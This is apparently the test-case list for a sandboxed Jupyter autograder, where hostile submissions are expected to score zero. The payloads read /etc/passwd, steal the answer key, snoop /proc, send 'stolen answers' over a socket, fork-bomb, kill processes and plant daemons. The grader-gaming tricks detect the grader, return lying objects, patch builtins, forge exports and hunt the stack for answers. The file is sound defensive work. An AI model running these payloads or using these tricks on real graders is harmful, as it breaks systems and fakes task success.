            "corr1d-dilation": src(
                """
                corr_dilated = [0] * 5
                text = open("@SOLUTIONS@/correlation.py").read()
                exec(text.split("# %% corr1d-dilation")[1].split("# %%")[0])
                """
            ),
        },
        max_points_for={"corr1d-valid": 0, "corr1d-dilation": 0},
        sandbox=True,
    ),
    Case(
        "glob-for-json-files",
        answers={
            "corr1d-valid": src(
                """
            import glob, json, os, time
            corr_valid = [0] * 7
            deadline = time.monotonic() + 3
            found = glob.glob("@COURSE@/**/*.json", recursive=True)
            for root, dirs, files in os.walk("/"):
                if time.monotonic() > deadline:
                    break
                if root in ("/proc", "/sys", "/dev"):
                    dirs[:] = []
                    continue
                found += [os.path.join(root, f) for f in files if f.endswith(".json")]
            for p in found:
                try:
                    if os.path.getsize(p) > 2**20:
                        continue
                    with open(p) as f:
                        corr_valid = json.load(f)["values"]["corr1d-valid"]
                    break
                except Exception:
                    pass
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
    ),
    Case(
        "proc-snooping-for-the-grader",
        answers={
            "corr1d-valid": src(
                """
            import json, os, re, stat
            corr_valid = [0] * 7
            def steal(path):
                global corr_valid
                try:
                    if not stat.S_ISREG(os.stat(path).st_mode):
                        return False
                    with open(path) as f:
                        corr_valid = json.load(f)["values"]["corr1d-valid"]
                    return True
                except Exception:
                    return False
            seen = []
            pids = [os.getppid(), 1] + [int(d) for d in os.listdir("/proc") if d.isdigit()]
            for pid in pids:
                for what in ("cmdline", "environ"):
                    try:
                        with open(f"/proc/{pid}/{what}", "rb") as f:
                            seen.append(f.read().replace(b"\\0", b"\\n").decode(errors="replace"))
                    except Exception:
                        pass
                for base in (f"/proc/{pid}/root", f"/proc/{pid}/cwd"):
                    steal(base + "@KEY@")
                    steal(base + "/release/key/ps1.json")
                try:
                    for fd in os.listdir(f"/proc/{pid}/fd"):
                        steal(f"/proc/{pid}/fd/{fd}")
                except Exception:
                    pass
            for p in set(re.findall(r"/[\\w.+-][\\w./+-]*", "\\n".join(seen))):
                for cand in (p, os.path.join(p, "release/key/ps1.json"),
                             os.path.join(os.path.dirname(p), "release/key/ps1.json")):
                    steal(cand)
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
    ),
    Case(
        "walk-filesystem-for-solutions",
        answers={
            "corr1d-valid": src(
                """
            import os, time
            corr_valid = [0] * 7
            deadline = time.monotonic() + 3
            for root, dirs, files in os.walk("/"):
                if time.monotonic() > deadline:
                    break
                if root in ("/proc", "/sys", "/dev"):
                    dirs[:] = []
                    continue
                if os.path.basename(root) == "solutions" and "correlation.py" in files:
                    text = open(os.path.join(root, "correlation.py")).read()
                    exec(text.split("# %% corr1d-valid")[1].split("# %%")[0])
                    break
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
    ),
    # ---- magics and the shell: they run, but see nothing and reach nothing ---------------------
    Case(
        "shell-bang-commands",
        answers={
            "corr1d-valid": src(
                """
            import json
            corr_valid = [0] * 7
            _passwd = !cat /etc/passwd
            _key = !cat @KEY@ 2>/dev/null
            !touch @CANARIES_SH@ 2>/dev/null
            !cp @KEY@ ./stolen.json 2>/dev/null
            try:
                corr_valid = json.loads("\\n".join(_key))["values"]["corr1d-valid"]
            except Exception:
                pass
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
    ),
    Case(
        "cell-magic-bash",
        answers={
            "corr1d-valid": src(
                """
            %%bash
            cat /etc/passwd
            touch @CANARIES_SH@ 2>/dev/null
            cat @KEY@ > stolen.json 2>/dev/null
            ls -la / @COURSE@ 2>/dev/null
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
        canary=False,  # a cell magic must be the first line; the bash above writes canaries
    ),
    Case(
        "magic-run-solutions",
        answers={
            "corr1d-valid": src(
                """
            corr_valid = [0] * 7
            %run -i @SOLUTIONS@/correlation.py
            %run -i @SOLUTION_NB@
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
    ),
    Case(
        "get-ipython-system",
        answers={
            "corr1d-valid": src(
                """
            import json
            ip = get_ipython()
            corr_valid = [0] * 7
            ip.system("cat /etc/passwd > /dev/null; touch @CANARIES_SH@ 2>/dev/null")
            out = ip.getoutput("cat @KEY@")
            try:
                corr_valid = json.loads("\\n".join(out))["values"]["corr1d-valid"]
            except Exception:
                pass
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
    ),
    Case(
        "subprocess-and-os-system",
        answers={
            "corr1d-valid": src(
                """
            import json, os, subprocess, sys
            corr_valid = [0] * 7
            os.system("touch @CANARIES_SH@ 2>/dev/null")
            writer = ("import sys\\nfor p in sys.argv[1:]:\\n    try:\\n"
                      "        open(p, 'w').write('x')\\n    except Exception:\\n        pass\\n")
            subprocess.run([sys.executable, "-c", writer, *@CANARIES@], timeout=20)
            for cmd in (["cat", "@KEY@"], ["sh", "-c", "cat @KEY@"]):
                r = subprocess.run(cmd, capture_output=True, timeout=20)
                try:
                    corr_valid = json.loads(r.stdout)["values"]["corr1d-valid"]
                    break
                except Exception:
                    pass
            try:
                corr_valid = json.loads(os.popen("cat @KEY@").read())["values"]["corr1d-valid"]
            except Exception:
                pass
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
    ),
    Case(
        # The test listens on 127.0.0.1:@PORT@ on the host and checks that nobody connected.
        "network-connect-fails-fast",
        answers={
            "corr1d-valid": src(
                """
                import socket
                corr_valid = [0] * 7
                s = socket.create_connection(("127.0.0.1", @PORT@), timeout=2)
                s.sendall(b"stolen answers")
                """
            ),
            "corr1d-dilation": src(
                """
                import socket
                corr_dilated = [0] * 5
                socket.create_connection(("1.1.1.1", 80), timeout=2).close()
                socket.getaddrinfo("example.com", 80)
                """
            ),
        },
        max_points_for={"corr1d-valid": 0, "corr1d-dilation": 0},
        sandbox=True,
        max_seconds=40,
    ),
    # ---- resource attacks: a limit, a clear message, and the rest is still graded --------------
    Case(
        "infinite-loop",
        answers={"corr1d-valid": WRONG_VALID + "while True:\n    pass\n"},
        limits={"cell_timeout": 3},
        max_points_for={"corr1d-valid": 0},
        message={"corr1d-valid": "ran past"},
        sandbox=True,
    ),
    Case(
        # A timeout is an interrupt: the kernel and what earlier cells defined survive it
        # (corr2d-stride and conv2d-true use corr2d() from the corr2d-same answer).
        "infinite-loop-keeps-earlier-state",
        answers={"corr2d-valid": "corr2d_valid = [[0]]\nwhile True:\n    pass\n"},
        limits={"cell_timeout": 3},
        max_points_for={"corr2d-valid": 0},
        message={"corr2d-valid": "ran past"},
        sandbox=True,
    ),
    Case(
        "sleep-forever",
        answers={"corr1d-valid": WRONG_VALID + "import time\ntime.sleep(10 ** 6)\n"},
        limits={"cell_timeout": 3},
        max_points_for={"corr1d-valid": 0},
        message={"corr1d-valid": "ran past"},
        sandbox=True,
    ),
    Case(
        "loop-ignoring-interrupts",
        answers={
            "corr1d-valid": src(
                """
            import signal as _sig  # not `signal`: that name is the setup's data
            _sig.signal(_sig.SIGINT, _sig.SIG_IGN)
            corr_valid = [0] * 7
            while True:
                pass
            """
            )
        },
        limits={"cell_timeout": 3},
        max_points_for={"corr1d-valid": 0},
        message={"corr1d-valid": "ran past"},
        sandbox=True,
    ),
    Case(
        # Bounded by itself too (2000 forks, each child sleeps then exits), in case the
        # process limit does not hold; with processes=32 a fork must fail early.
        "fork-bomb",
        answers={
            "corr1d-valid": src(
                """
            import os, time
            corr_valid = [0] * 7
            for _ in range(2000):
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
            """
            )
        },
        limits={"processes": 32},
        max_points_for={"corr1d-valid": 0},
        message={
            "corr1d-valid": ("BlockingIOError", "Resource temporarily unavailable", "process")
        },
        sandbox=True,
    ),
    Case(
        "allocate-8-gib",
        answers={"corr1d-valid": WRONG_VALID + "hog = bytearray(8 * 2**30)\n"},
        max_points_for={"corr1d-valid": 0},
        message={"corr1d-valid": "memory"},
        sandbox=True,
    ),
    Case(
        "print-1-gb",
        answers={"corr1d-valid": WRONG_VALID + "print('x' * 10**9)\n"},
        limits={"memory": 3072, "cell_timeout": 40},
        max_points_for={"corr1d-valid": 0},
        message={"corr1d-valid": ("printed more than", "output", "memory")},
        sandbox=True,
    ),
    Case(
        # One message far past any cap (an exception's text, a single print): the grader
        # refuses it unread instead of receiving, parsing and copying it.
        "exception-with-a-50-mb-message",
        answers={"corr1d-valid": WRONG_VALID + "raise ValueError('x' * 50_000_000)\n"},
        limits={"memory": 3072, "cell_timeout": 40},
        max_points_for={"corr1d-valid": 0},
        message={"corr1d-valid": ("printed more than", "output")},
        sandbox=True,
    ),
    Case(
        "print-in-a-loop",
        answers={"corr1d-valid": WRONG_VALID + "while True:\n    print('x' * 1000)\n"},
        max_points_for={"corr1d-valid": 0},
        message={"corr1d-valid": ("printed more than", "output")},
        sandbox=True,
    ),
    Case(
        # 200 KiB per cell is under the per-cell cap; the third such cell crosses the total.
        "print-too-much-in-all",
        answers={
            eid: (lambda old: old.rstrip("\n") + "\nprint('y' * 200 * 1024)\n")
            for eid in ("corr1d-valid", "corr1d-stride", "corr1d-dilation")
        },
        limits={"total_output": 512},
        max_points_for={"corr1d-dilation": 0},
        others_full=False,
        keep_full=("corr1d-same", "corr1d-valid", "corr1d-stride"),
        message={"corr1d-dilation": ("in all", "total")},
        sandbox=True,
    ),
    Case(
        "write-1-gb-files",
        answers={
            "corr1d-valid": src(
                """
                corr_valid = [0] * 7
                chunk = b"\\0" * 2**20
                with open("big.bin", "wb") as f:
                    for _ in range(1024):
                        f.write(chunk)
                """
            ),
            "corr1d-dilation": src(
                """
                corr_dilated = [0] * 5
                chunk = b"\\1" * 2**20
                with open("/tmp/big.bin", "wb") as f:
                    for _ in range(1024):
                        f.write(chunk)
                """
            ),
        },
        max_points_for={"corr1d-valid": 0, "corr1d-dilation": 0},
        message={
            "corr1d-valid": ("No space left", "File too large", "disk"),
            "corr1d-dilation": ("No space left", "File too large", "disk"),
        },
        sandbox=True,
    ),
    Case(
        "os-exit",
        answers={"corr1d-valid": WRONG_VALID + "import os\nos._exit(0)\n"},
        max_points_for={"corr1d-valid": 0},
        message={"corr1d-valid": ("died", "exited")},
        sandbox=True,
    ),
    Case(
        "segfault",
        answers={"corr1d-valid": WRONG_VALID + "import ctypes\nctypes.string_at(0)\n"},
        max_points_for={"corr1d-valid": 0},
        message={"corr1d-valid": ("died", "crash")},
        sandbox=True,
    ),
    Case(
        "sigkill-itself",
        answers={
            "corr1d-valid": WRONG_VALID
            + src(
                """
            import os, signal as _sig
            os.kill(os.getpid(), _sig.SIGKILL)
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        message={"corr1d-valid": "died"},
        sandbox=True,
    ),
    Case(
        "close-stdout-and-stderr",
        answers={
            "corr2d-channels": src(
                """
            import os, sys
            out_multi = [[0, 0], [0, 0]]
            sys.stdout.flush()
            os.close(1)
            os.close(2)
            sys.stdout.close()
            sys.stderr.close()
            """
            )
        },
        max_points_for={"corr2d-channels": 0},
        sandbox=True,
    ),
    Case(
        # Every descriptor closed, the kernel's sockets included: it can no longer answer.
        "close-all-file-descriptors",
        answers={"corr1d-valid": WRONG_VALID + "import os\nos.closerange(0, 65536)\n"},
        limits={"cell_timeout": 3},
        max_points_for={"corr1d-valid": 0},
        message={"corr1d-valid": ("ran past", "died", "kernel")},
        sandbox=True,
    ),
    Case(
        # The kernel's parent, and (inside a PID namespace only: fresh host pids are never
        # this small) every process it can see. The grader and the host must not notice.
        "kill-parent-and-everyone",
        answers={
            "corr1d-valid": src(
                """
            import os
            import signal as _sig  # not `signal`: that name is the setup's data
            corr_valid = [0] * 7
            if os.getppid() not in (0, 1, @HOSTPID@):
                try:
                    os.kill(os.getppid(), _sig.SIGKILL)
                except OSError:
                    pass
            if os.getpid() < 300:
                for target in (os.getppid(), 1, -1):
                    try:
                        os.kill(target, _sig.SIGKILL)
                    except OSError:
                        pass
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
    ),
    Case(
        "thread-keeps-running",
        answers={
            "corr1d-valid": src(
                """
            import threading, time
            def _forever(paths=@CANARIES@):
                while True:
                    until = time.monotonic() + 0.05
                    while time.monotonic() < until:
                        pass
                    print("still running", flush=True)
                    for p in paths:
                        try:
                            open(p, "w").write("thread")
                        except Exception:
                            pass
            threading.Thread(target=_forever).start()
            corr_valid = [0] * 7
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
    ),
    Case(
        # A thread keeps planting the right value for the last exercise, whose cell is blank.
        "thread-keeps-forging-exports",
        answers={
            "corr1d-valid": lambda old: (
                old.rstrip("\n")
                + "\n"
                + src(
                    f"""
                import json, os, threading, time
                def _forge():
                    while True:
                        try:
                            with open(".grader-export/corr2d-channels.json.x", "w") as f:
                                json.dump({{"ok": True, "value": {RIGHT_CHANNELS}}}, f)
                            os.rename(".grader-export/corr2d-channels.json.x",
                                      ".grader-export/corr2d-channels.json")
                        except Exception:
                            pass
                        time.sleep(0.002)
                threading.Thread(target=_forge, daemon=True).start()
                """
                )
            ),
            "corr2d-channels": "out_multi = ...\n",
        },
        max_points_for={"corr2d-channels": 0},
        sandbox=True,
    ),
    Case(
        # A double-forked, session-leading grandchild that outlives the kernel (its command
        # line carries the case's token, so the test can see whether it survived).
        "daemon-outlives-kernel",
        answers={
            "corr1d-valid": src(
                """
            import os, sys
            corr_valid = [0] * 7
            pid = os.fork()
            if pid == 0:
                try:
                    os.setsid()
                    if os.fork() == 0:
                        code = ("import sys, time\\nend = time.time() + 60\\n"
                                "while time.time() < end:\\n"
                                "    for p in sys.argv[1:]:\\n"
                                "        try:\\n            open(p, 'w').write('daemon')\\n"
                                "        except Exception:\\n            pass\\n"
                                "    time.sleep(0.2)\\n# @TOKEN@")
                        os.execv(sys.executable, [sys.executable, "-c", code, *@CANARIES@])
                finally:
                    os._exit(0)
            os.waitpid(pid, 0)
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
    ),
    Case(
        "recursion-limit-bombs",
        answers={
            "corr1d-valid": src(
                """
                import sys
                sys.setrecursionlimit(10**6)
                def f(n):
                    return f(n + 1) + 1
                corr_valid = [0] * 7
                f(0)
                """
            ),
            "corr1d-dilation": src(
                """
                import sys
                sys.setrecursionlimit(10**6)
                nested = []
                for _ in range(10**6):
                    nested = [nested]
                corr_dilated = [0] * 5
                repr(nested)
                """
            ),
        },
        limits={"cell_timeout": 3},
        max_points_for={"corr1d-valid": 0, "corr1d-dilation": 0},
        sandbox=True,
    ),
    # ---- tampering: only answer cells come from the submission ---------------------------------
    Case(
        "answer-cell-deleted",
        notebook_fn=delete_answer,
        max_points_for={"corr1d-valid": 0},
        message={"corr1d-valid": "no answer cell"},
        notices=("corr1d-valid",),
    ),
    Case(
        "answer-cell-duplicated",  # the last of duplicates is graded, and that is said
        notebook_fn=duplicate_answer,
        max_points_for={"corr1d-valid": 0},
        notices=("2 cells answer",),
    ),
    Case("cells-reordered", notebook_fn=reorder_cells),
    Case(
        "answer-retagged-to-another-assignment",
        notebook_fn=retag_other_assignment,
        max_points_for={"corr1d-valid": 0},
        notices=("cnn-model",),
    ),
    Case(
        "answer-retagged-to-another-exercise",
        notebook_fn=retag_as_other_exercise,
        max_points_for={"corr1d-same": 0, "corr1d-valid": 0},
    ),
    Case(
        "answer-cell-turned-into-markdown",
        notebook_fn=answer_to_markdown,
        max_points_for={"corr1d-valid": 0},
        notices=("markdown",),
    ),
    Case(
        "answer-cell-retagged-as-setup",
        notebook_fn=answer_role_setup,
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "setup-cells-tampered",
        notebook_fn=tamper_setup,
        max_points_for={"corr1d-valid": 0},
    ),
    Case("prompt-cells-tampered", notebook_fn=tamper_prompts),
    Case(
        "metadata-claims-another-course",
        notebook_fn=metadata_other_course,
        error="Some other course",
    ),
    Case(
        "metadata-claims-another-assignment",
        notebook_fn=metadata_other_assignment,
        explicit_assignment=True,
        error="ps2",
    ),
    Case(
        "metadata-grader-is-garbage",
        notebook_fn=metadata_garbage,
        notices=("file name",),
    ),
    Case(
        "metadata-stale-version-and-limits",
        notebook_fn=metadata_stale_version,
        notices=("another release",),
    ),
    Case("kernelspec-missing", notebook_fn=kernelspec_missing),
    Case("kernelspec-hostile", notebook_fn=kernelspec_hostile),
    Case("cell-ids-invalid", notebook_fn=invalid_cell_ids),
    Case(
        "answer-metadata-and-outputs-claim-marks",
        notebook_fn=answer_metadata_claims,
        max_points_for={"corr1d-valid": 0},
    ),
    Case("cell-source-not-text", notebook_fn=source_not_text, error="not"),
    # ---- functions judged by calls (corr1d-function): the calls happen in the kernel, the
    # expected results are computed in the grader and never enter the kernel -------------------
    Case(
        "function-detects-the-grader",
        # When called by the grader (found on the stack or in sys.modules), reach the library's
        # convolution by computed names that the cell's text does not spell.
        answers={
            "corr1d-function": src(
                """
            import inspect, sys, torch
            def corr1d(x, w, padding=0, stride=1, dilation=1):
                graded = "grader.inkernel.calls" in sys.modules or any(
                    "grader" in (f.filename or "") for f in inspect.stack())
                if not graded:
                    return torch.zeros(1)
                lib = getattr(torch.nn, "func" + "tional")
                conv = getattr(lib, "conv" + "1d")
                return conv(x.view(1, 1, -1), w.view(1, 1, -1), padding=padding,
                            stride=stride, dilation=dilation).flatten()
            """
            )
        },
        max_points_for={"corr1d-function": 0},
        message={"corr1d-function": ("dynamic", "must not use")},
    ),
    Case(
        "function-returns-lying-objects",
        answers={
            "corr1d-function": src(
                """
            class Liar(list):
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                def __len__(self): return 10 ** 6
                def __iter__(self): return iter([0.0] * 3)
                def tolist(self): return self
                __hash__ = None
            class Fake(float):
                def __eq__(self, other): return True
                def __float__(self): return 1.0
                __hash__ = float.__hash__
            def corr1d(x, w, padding=0, stride=1, dilation=1):
                return Liar([Fake(7.0)]) if padding else Liar()
            """
            )
        },
        max_points_for={"corr1d-function": 0},
    ),
    Case(
        "function-hard-codes-the-public-outputs",
        # The four public calls answered from a table (their inputs are in the hand-out): 4 of
        # the 16 case points of corr1d-function, so 1 of its 4 points; hidden and drawn: 0.
        answers={
            "corr1d-function": src(
                """
            import torch
            _known = {(4, 3, 0, 1, 1): [-2.0, -2.0], (5, 2, 1, 1, 1): [6.0, 5.0, 9.0, 6.0, 11.0, 5.0],
                      (7, 3, 1, 2, 1): [3.0, 7.0, 11.0, -1.0], (6, 2, 0, 1, 3): [8.0, 2.0, 7.0]}
            def corr1d(x, w, padding=0, stride=1, dilation=1):
                return torch.tensor(_known.get((len(x), len(w), padding, stride, dilation), [0.0]))
            """
            )
        },
        max_points_for={"corr1d-function": 1.0},
    ),
    Case(
        "function-sleeps",
        answers={
            "corr1d-function": src(
                """
            import time
            def corr1d(x, w, padding=0, stride=1, dilation=1):
                time.sleep(10 ** 6)
            """
            )
        },
        limits={"cell_timeout": 3},
        max_points_for={"corr1d-function": 0},
        sandbox=True,
    ),
    Case(
        "function-swallows-its-time-limit",
        # Catches every interruption and disables the alarm: the cell's own limit ends it, the
        # kernel is restarted, and the exercises after it are still graded.
        answers={
            "corr1d-function": src(
                """
            import signal as _sig, time
            def corr1d(x, w, padding=0, stride=1, dilation=1):
                while True:
                    try:
                        _sig.setitimer(_sig.ITIMER_REAL, 0)
                        _sig.signal(_sig.SIGALRM, _sig.SIG_IGN)
                        time.sleep(0.05)
                    except BaseException:
                        pass
            """
            )
        },
        limits={"cell_timeout": 3},
        max_points_for={"corr1d-function": 0},
        sandbox=True,
    ),
    Case(
        "function-mutates-its-inputs",
        # Right, but zeroes its inputs and keeps the first call's for later: each call gets
        # fresh inputs, so it keeps every point it earns (full marks are the right grade).
        answers={
            "corr1d-function": src(
                """
            import torch
            _seen = []
            def corr1d(x, w, padding=0, stride=1, dilation=1):
                _seen.append((x, w))
                xp = torch.cat([torch.zeros(padding), x, torch.zeros(padding)])
                span = dilation * (len(w) - 1) + 1
                out = torch.stack([(xp[i : i + span : dilation] * w).sum()
                                   for i in range(0, len(xp) - span + 1, stride)])
                x.zero_(); w.mul_(0)
                for a, b in _seen:
                    a.add_(1); b.add_(1)
                return out
            """
            )
        },
        canary=False,  # the canary's open() is not allowed in a cell with forbidden names
    ),
    Case(
        "function-patches-builtins-and-the-grader",
        # Wrong results, then replaces what the export relies on: builtins, copy, json, the
        # caller's own modules. Its results stay what they are (wrong), or the calls fail.
        answers={
            "corr1d-function": src(
                """
            import builtins, copy, json, sys
            def corr1d(x, w, padding=0, stride=1, dilation=1):
                builtins.isinstance = lambda *a: True
                builtins.type = lambda *a: list
                copy.deepcopy = lambda v, memo=None: v
                json.dumps = lambda *a, **k: '{"ok": true, "calls": []}'
                json.dump = lambda obj, f, *a, **k: f.write('{"ok": true}')
                for name, module in list(sys.modules.items()):
                    if name.startswith("grader"):
                        for attr in ("case_right", "close", "to_plain", "call_one"):
                            if hasattr(module, attr):
                                setattr(module, attr, lambda *a, **k: True)
                return [0.0]
            """
            )
        },
        max_points_for={"corr1d-function": 0},
    ),
    Case(
        "function-hunts-the-stack-for-expected-results",
        answers={
            "corr1d-function": src(
                """
            import inspect
            def corr1d(x, w, padding=0, stride=1, dilation=1):
                for frame in inspect.stack():
                    for name, value in frame.frame.f_locals.items():
                        if "expect" in name or "reference" in name or "key" in name:
                            return value
                return [0.0]
            """
            )
        },
        max_points_for={"corr1d-function": 0},
    ),
    # ---- files that are not notebooks: one line naming the file, and the file untouched ---------
    Case("file-not-json", raw=b"print('this is my homework')\n", error="not a notebook"),
    Case("file-truncated-json", write=_write_truncated, error="not a notebook"),
    Case("file-binary", raw=b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64, error="not a notebook"),
    Case("file-empty", raw=b"", error="empty"),
    Case("file-200-mb", write=_write_huge, error="MiB"),
    Case("file-nbformat-3", write=_write_nbformat3, error="nbformat"),
    Case("file-nbformat-99", write=_write_nbformat99, error="nbformat"),
    Case("file-not-utf8", write=_write_latin1, error="UTF-8"),
    Case("file-utf16", write=_write_utf16, error="UTF-8"),
    Case("file-json-list", raw=b'[{"cells": []}]', error="not a notebook"),
    Case(
        "file-json-without-cells",
        raw=b'{"metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
        error="not a notebook",
    ),
    Case("file-json-huge-integer", write=_write_huge_int, error="not a notebook"),
    Case("file-json-nested-500000-deep", write=_write_deep, error="not a notebook"),
]

assert len({c.name for c in CASES}) == len(CASES), "case names must be unique"
